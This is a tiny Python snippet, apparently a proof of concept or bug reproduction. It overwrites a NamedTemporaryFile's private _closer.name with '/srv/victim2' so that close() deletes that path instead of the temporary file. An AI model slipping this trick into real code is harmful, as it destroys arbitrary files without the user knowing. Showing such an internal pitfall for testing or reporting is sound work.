import tempfile, os
d = tempfile.NamedTemporaryFile()
d._closer.name = "/srv/victim2"
d.close()
